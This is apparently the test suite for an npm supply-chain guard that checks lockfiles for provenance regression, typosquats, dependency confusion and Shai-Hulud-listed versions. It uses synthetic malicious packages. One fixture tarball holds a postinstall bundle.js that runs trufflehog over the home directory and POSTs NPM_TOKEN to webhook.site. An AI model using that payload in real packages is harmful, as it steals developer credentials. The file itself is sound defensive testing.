'use strict'

// guard(): the policy rules over a lockfile, on the fixture registry. Where an attack needs a
// version that does not exist in the real data (a release without provenance after releases
// with it, a swapped repository), the registry serves a SYNTHETIC edit of a real packument;
// each such test says so.

const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { execFile } = require('node:child_process')
const { promisify } = require('node:util')
const { test, before, after } = require('node:test')

const pn = require('..')
const { startRegistry } = require('./registry')
const { tmpdir, project, rejectsWith, makeTgz, sri } = require('./helpers')

const DATA = path.resolve(__dirname, '../../shared/data')
const BIN = path.join(__dirname, '..', 'bin', 'prov-native.js')
const run = promisify(execFile)

// SYNTHETIC: sigstore@5.0.1, published after 5.0.0 with the same manifest but without
// attestations or registry signature — the shape of the lottie-player compromise.
function addUnattestedRelease (doc) {
  const m = JSON.parse(JSON.stringify(doc.versions['5.0.0']))
  m.version = '5.0.1'
  delete m.dist.attestations
  delete m.dist.signatures
  doc.versions['5.0.1'] = m
  doc.time['5.0.1'] = new Date(Date.parse(doc.time['5.0.0']) + 86400000).toISOString()
  doc['dist-tags'].latest = '5.0.1'
}

let reg
before(async () => {
  reg = await startRegistry({
    overrides: {
      sigstore: (doc) => { addUnattestedRelease(doc) }
    }
  })
})
after(async () => { await reg.close() })

const rules = (r) => r.findings.map((f) => `${f.rule}:${f.level}:${f.name}@${f.version}`)

function withConfig (dir, config) {
  fs.writeFileSync(path.join(dir, 'prov-native.config.json'), JSON.stringify(config, null, 2))
}

test('guard: a verified tree has no error-level finding', async () => {
  const dir = project(reg, ['sigstore@1.0.0', 'tuf-js@1.0.0'])
  const r = await pn.guard({ cwd: dir, cache: false })
  assert.equal(r.errors, 0, JSON.stringify(r.findings, null, 2))
  assert.equal(r.audit.verified, 2)
  assert.equal(r.config, '<defaults>')
  assert.ok(r.skipped.some((s) => /majorUpdate/.test(s)), 'says that no previous lockfile was found')
})

test('provenanceRegression: a release without provenance after one with verified provenance (synthetic release)', async () => {
  const dir = project(reg, ['sigstore@5.0.1'])
  const r = await pn.guard({ cwd: dir, cache: false })
  const f = r.findings.find((x) => x.rule === 'provenanceRegression')
  assert.ok(f, rules(r).join('\n'))
  assert.equal(f.level, 'error')
  assert.match(f.message, /sigstore@5\.0\.0 was published with verified provenance/)
  assert.match(f.evidence[0], /github\.com\/sigstore\/sigstore-js/)
  assert.ok(r.errors > 0)
})

test('provenanceRegression: the earlier provenance must verify, not just be advertised', async () => {
  // SYNTHETIC: sigstore@5.0.0's attestations replaced by tuf-js@1.0.0's (valid bundles about
  // another package). The regression is then not claimed as verified: a warning says why.
  const other = JSON.parse(fs.readFileSync(path.join(__dirname, '../../shared/fixtures/attestations/tuf-js-1.0.0.json'), 'utf8'))
  const bad = await startRegistry({ overrides: { sigstore: addUnattestedRelease }, attestationOverrides: { 'sigstore@5.0.0': other } })
  try {
    const dir = project(bad, ['sigstore@5.0.1'])
    const r = await pn.guard({ cwd: dir, cache: false })
    const f = r.findings.find((x) => x.rule === 'provenanceRegression')
    assert.ok(f, rules(r).join('\n'))
    assert.equal(f.level, 'warn')
    assert.match(f.evidence[0], /ERR_PROV_SUBJECT/)
  } finally { await bad.close() }
})

test('sourceMatch: provenance from another repository than package.json declares (synthetic StarJacking)', async () => {
  const bad = await startRegistry({
    overrides: { sigstore: (doc) => { doc.versions['1.0.0'].repository = { type: 'git', url: 'git+https://github.com/popular/sigstore-js.git' } } }
  })
  try {
    const dir = project(bad, ['sigstore@1.0.0'])
    withConfig(dir, { rules: { sourceMatch: 'error' } })
    const r = await pn.guard({ cwd: dir, cache: false })
    const f = r.findings.find((x) => x.rule === 'sourceMatch')
    assert.ok(f, rules(r).join('\n'))
    assert.equal(f.level, 'error')
    assert.match(f.message, /built from https:\/\/github\.com\/sigstore\/sigstore-js, but package\.json declares https:\/\/github\.com\/popular\/sigstore-js/)
    // an allow-list by owner accepts it
    withConfig(dir, { rules: { sourceMatch: { level: 'error', owners: ['sigstore'] } } })
    const ok = await pn.guard({ cwd: dir, cache: false })
    assert.ok(!ok.findings.some((x) => x.rule === 'sourceMatch'))
  } finally { await bad.close() }
})

test('requireProvenance and exceptions (valid and expired)', async () => {
  const dir = project(reg, ['sigstore@5.0.1', 'tuf-js@1.0.0'])
  withConfig(dir, {
    rules: { requireProvenance: { level: 'error', packages: ['sigstore', 'tuf-*'] } },
    exceptions: [{ package: 'sigstore@5.0.1', rules: ['requireProvenance', 'provenanceRegression'], reason: 'vendor confirmed the release', expires: '2099-12-31' }]
  })
  let r = await pn.guard({ cwd: dir, cache: false })
  assert.ok(!r.findings.some((f) => f.rule === 'requireProvenance'), rules(r).join('\n'))
  assert.ok(r.allowed.some((f) => f.rule === 'requireProvenance' && /vendor confirmed/.test(f.allowedBy)))
  withConfig(dir, {
    rules: { requireProvenance: { level: 'error', packages: ['sigstore'] } },
    exceptions: [{ package: 'sigstore', reason: 'temporary', expires: '2020-01-01' }]
  })
  r = await pn.guard({ cwd: dir, cache: false })
  assert.ok(r.findings.some((f) => f.rule === 'requireProvenance' && f.level === 'error'))
  assert.ok(r.findings.some((f) => f.rule === 'exceptionExpired' && /expired on 2020-01-01/.test(f.message)))
})

test('majorUpdate and minReleaseAge against the previous lockfile', async () => {
  const prevDir = project(reg, ['sigstore@1.0.0'])
  const dir = project(reg, ['sigstore@5.0.1'])
  withConfig(dir, { rules: { majorUpdate: 'error', minReleaseAge: { level: 'warn', days: 36500 } } })
  const r = await pn.guard({ cwd: dir, cache: false, previousLockfile: path.join(prevDir, 'package-lock.json') })
  assert.ok(r.findings.some((f) => f.rule === 'majorUpdate' && /1\.0\.0 -> 5\.0\.1/.test(f.message)), rules(r).join('\n'))
  assert.ok(r.findings.some((f) => f.rule === 'minReleaseAge' && f.name === 'sigstore'))
  assert.ok(!r.skipped.some((s) => /majorUpdate/.test(s)))
})

test('publisherChange and new install scripts, from the packument history (synthetic edits)', async () => {
  const bad = await startRegistry({
    overrides: {
      sigstore: (doc) => {
        doc.versions['0.4.0']._npmUser = { name: 'maintainer' }
        doc.versions['1.0.0']._npmUser = { name: 'someone-new' }
        doc.versions['1.0.0'].scripts = { ...(doc.versions['1.0.0'].scripts || {}), postinstall: 'node setup_bun.js' }
      }
    }
  })
  try {
    const dir = project(bad, ['sigstore@1.0.0'])
    const r = await pn.guard({ cwd: dir, cache: false })
    assert.ok(r.findings.some((f) => f.rule === 'publisherChange' && /someone-new/.test(f.message)), rules(r).join('\n'))
    assert.ok(r.findings.some((f) => f.rule === 'installScripts' && /postinstall/.test(f.message + f.evidence.join())), rules(r).join('\n'))
  } finally { await bad.close() }
})

test('typosquatting: jqeury imitates jquery', async () => {
  const dir = project(reg, ['sigstore@1.0.0'], (p) => {
    p['node_modules/jqeury'] = { version: '1.0.0', resolved: `${reg.url}jqeury/-/jqeury-1.0.0.tgz`, integrity: p['node_modules/sigstore'].integrity }
  })
  const r = await pn.guard({ cwd: dir, cache: false })
  const f = r.findings.find((x) => x.rule === 'typosquat')
  assert.ok(f, rules(r).join('\n'))
  assert.equal(f.name, 'jqeury')
  assert.match(f.message + f.evidence.join(' '), /jquery/)
  assert.ok(!r.findings.some((x) => x.rule === 'typosquat' && x.name === 'sigstore'))
})

test('dependencyConfusion: a private scope resolved from the wrong registry, at 99.x', async () => {
  const dir = project(reg, ['sigstore@1.0.0'], (p) => {
    p['node_modules/@corp/internal-lib'] = { version: '99.0.0', resolved: `${reg.url}@corp/internal-lib/-/internal-lib-99.0.0.tgz`, integrity: p['node_modules/sigstore'].integrity }
  })
  fs.appendFileSync(path.join(dir, '.npmrc'), '@corp:registry=http://127.0.0.1:9/private/\n')
  withConfig(dir, { rules: { dependencyConfusion: { level: 'error', private: ['internal-*'] } } })
  const r = await pn.guard({ cwd: dir, cache: false })
  const fs_ = r.findings.filter((x) => x.rule === 'dependencyConfusion' && x.name === '@corp/internal-lib')
  assert.ok(fs_.some((f) => /its scope is configured to come from http:\/\/127\.0\.0\.1:9\/private\//.test(f.message)), rules(r).join('\n'))
  assert.ok(fs_.some((f) => /99\.0\.0/.test(f.message)))
})

test('advisories: every Shai-Hulud 2.0 package@version in a lockfile is flagged', async () => {
  const csv = path.join(DATA, 'incident-lists/datadog-shai-hulud-2.0/shai-hulud-2.0.csv')
  assert.ok(fs.existsSync(csv), `missing data ${csv}`)
  const rows = fs.readFileSync(csv, 'utf8').trim().split('\n').slice(1).map((l) => l.split(',').map((c) => c.trim().replace(/^"|"$/g, '')))
  const dir = project(reg, ['sigstore@1.0.0'], (p) => {
    for (const [name, version] of rows) {
      p[`node_modules/${name}`] = p[`node_modules/${name}`] || { version, resolved: `${reg.url}${name}/-/x-${version}.tgz`, integrity: p['node_modules/sigstore'].integrity }
    }
  })
  const lock = JSON.parse(fs.readFileSync(path.join(dir, 'package-lock.json'), 'utf8'))
  const inLock = Object.entries(lock.packages).filter(([k]) => k.startsWith('node_modules/')).map(([k, v]) => `${k.slice(13)}@${v.version}`)
  withConfig(dir, { rules: { advisories: { level: 'error', sources: [csv] } } })
  const r = await pn.guard({ cwd: dir, cache: false, offline: true })
  const flagged = new Set(r.findings.filter((f) => f.rule === 'advisories').map((f) => `${f.name}@${f.version}`))
  const expected = inLock.filter((s) => rows.some(([n, v]) => `${n}@${v}` === s))
  assert.ok(expected.length > 400, `${expected.length} Shai-Hulud versions in the lockfile`)
  for (const s of expected) assert.ok(flagged.has(s), `${s} not flagged`)
  assert.ok(!flagged.has('sigstore@1.0.0'))
})

test('guard: an invalid policy file is a configuration error', async () => {
  const dir = project(reg, ['sigstore@1.0.0'])
  withConfig(dir, { rules: { requireProvenanse: 'error' } })
  await rejectsWith(pn.guard({ cwd: dir, cache: false }), 'ERR_PROV_CONFIG')
  const r = await run(process.execPath, [BIN, 'guard'], { cwd: dir }).catch((e) => e)
  assert.equal(r.code, 2)
  assert.match(r.stderr, /unknown rule "requireProvenanse"/)
})

test('guard CLI: exit 1 on an error-level finding, 0 otherwise', async () => {
  const good = project(reg, ['sigstore@1.0.0', 'tuf-js@1.0.0'])
  const ok = await run(process.execPath, [BIN, 'guard', '--no-cache'], { cwd: good })
  assert.match(ok.stdout, /0 error\(s\)/)
  const badDir = project(reg, ['sigstore@5.0.1'])
  const bad = await run(process.execPath, [BIN, 'guard', '--no-cache'], { cwd: badDir }).catch((e) => e)
  assert.equal(bad.code, 1)
  assert.match(bad.stdout, /ERROR provenanceRegression/)
  const json = await run(process.execPath, [BIN, 'guard', '--no-cache', '--json'], { cwd: badDir }).catch((e) => e)
  assert.ok(JSON.parse(json.stdout).findings.length > 0)
})

// A real npm project, created here, with the guard as its preinstall hook. The dependency is
// a SYNTHETIC package `jqeury` served from a loopback registry made for this test.
test('guard as a preinstall hook: npm install fails on a typosquat', async () => {
  const http = require('node:http')
  const tgz = makeTgz({ 'package.json': JSON.stringify({ name: 'jqeury', version: '1.0.0', main: 'index.js' }), 'index.js': 'module.exports = 1\n' })
  const server = http.createServer((req, res) => {
    const base = `http://127.0.0.1:${server.address().port}/`
    if (req.url === '/jqeury') {
      res.setHeader('content-type', 'application/json')
      return res.end(JSON.stringify({
        name: 'jqeury',
        'dist-tags': { latest: '1.0.0' },
        time: { '1.0.0': '2024-01-01T00:00:00.000Z' },
        versions: { '1.0.0': { name: 'jqeury', version: '1.0.0', main: 'index.js', dist: { tarball: `${base}jqeury/-/jqeury-1.0.0.tgz`, integrity: sri(tgz) } } }
      }))
    }
    if (req.url === '/jqeury/-/jqeury-1.0.0.tgz') return res.end(tgz)
    res.statusCode = 404
    res.end('{}')
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  try {
    const dir = tmpdir()
    const url = `http://127.0.0.1:${server.address().port}/`
    fs.writeFileSync(path.join(dir, '.npmrc'), `registry=${url}\n`)
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({
      name: 'hook-app',
      version: '1.0.0',
      scripts: { preinstall: `node ${JSON.stringify(BIN)} guard --no-cache` },
      dependencies: { jqeury: '1.0.0' }
    }))
    // The lockfile the guard reads (as a committed one would be).
    fs.writeFileSync(path.join(dir, 'package-lock.json'), JSON.stringify({
      name: 'hook-app',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'hook-app', version: '1.0.0', dependencies: { jqeury: '1.0.0' } },
        'node_modules/jqeury': { version: '1.0.0', resolved: `${url}jqeury/-/jqeury-1.0.0.tgz`, integrity: sri(tgz) }
      }
    }))
    const r = await run('npm', ['install', '--no-audit', '--no-fund'], { cwd: dir }).catch((e) => e)
    assert.notEqual(r.code, undefined, 'npm install must fail')
    assert.notEqual(r.code, 0)
    assert.match(r.stdout + r.stderr, /typosquat/)
    // Without the typosquat the same hook lets the install through.
    const okDir = tmpdir()
    fs.writeFileSync(path.join(okDir, '.npmrc'), `registry=${url}\n`)
    fs.writeFileSync(path.join(okDir, 'package.json'), JSON.stringify({ name: 'hook-ok', version: '1.0.0', scripts: { preinstall: `node ${JSON.stringify(BIN)} guard --no-cache` } }))
    fs.writeFileSync(path.join(okDir, 'package-lock.json'), JSON.stringify({ name: 'hook-ok', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'hook-ok', version: '1.0.0' } } }))
    await run('npm', ['install', '--no-audit', '--no-fund'], { cwd: okDir })
  } finally {
    server.close()
  }
})

test('suspiciousCode and manifestConfusion from the tarball (synthetic Shai-Hulud-style release)', async () => {
  const evil = makeTgz({
    'package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0', scripts: { postinstall: 'node bundle.js' } }),
    'bundle.js': "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })"
  })
  const bad = await startRegistry({
    overrides: {
      sigstore: (doc) => {
        const m = doc.versions['1.0.0']
        m.dist.integrity = sri(evil)
        // What the registry shows: no install script (the tarball has one).
        delete m.scripts
      }
    },
    tarballOverrides: { 'sigstore@1.0.0': evil }
  })
  try {
    const dir = project(bad, ['sigstore@1.0.0'])
    const r = await pn.guard({ cwd: dir, cache: false })
    const code = r.findings.filter((f) => f.rule === 'suspiciousCode')
    assert.ok(code.some((f) => f.level === 'error' && /code\.shai-hulud in bundle\.js/.test(f.message)), rules(r).join('\n'))
    assert.ok(code.some((f) => /code\.webhook-exfiltration/.test(f.message)))
    const mc = r.findings.find((f) => f.rule === 'manifestConfusion')
    assert.ok(mc && /scripts/.test(mc.message), rules(r).join('\n'))
    assert.ok(mc.evidence.some((e) => /postinstall/.test(e)))
  } finally { await bad.close() }
})

test('real fixture tarballs raise no suspiciousCode or manifestConfusion finding', async () => {
  const dir = project(reg, ['sigstore@1.0.0', 'tuf-js@1.0.0', 'sigstore@2.3.1'])
  const r = await pn.guard({ cwd: dir, cache: false })
  assert.ok(!r.findings.some((f) => f.rule === 'suspiciousCode' || f.rule === 'manifestConfusion'), rules(r).join('\n'))
  assert.ok(!r.skipped.some((s) => /not scanned/.test(s)), r.skipped.join('\n'))
})

test('provenanceRegression behind a mirror: said to be unchecked, and found with attestationsRegistry', async () => {
  const mirror = await startRegistry({ mirror: true, overrides: { sigstore: addUnattestedRelease } })
  try {
    const dir = project(mirror, ['sigstore@5.0.1'])
    const plain = await pn.guard({ cwd: dir, cache: false })
    assert.ok(!plain.findings.some((f) => f.rule === 'provenanceRegression'))
    assert.ok(plain.skipped.some((s) => /provenanceRegression.*attestationsRegistry/.test(s)), plain.skipped.join('\n'))
    const r = await pn.guard({ cwd: dir, cache: false, attestationsRegistry: reg.url })
    const f = r.findings.find((x) => x.rule === 'provenanceRegression')
    assert.ok(f && f.level === 'error', rules(r).join('\n'))
  } finally { await mirror.close() }
})
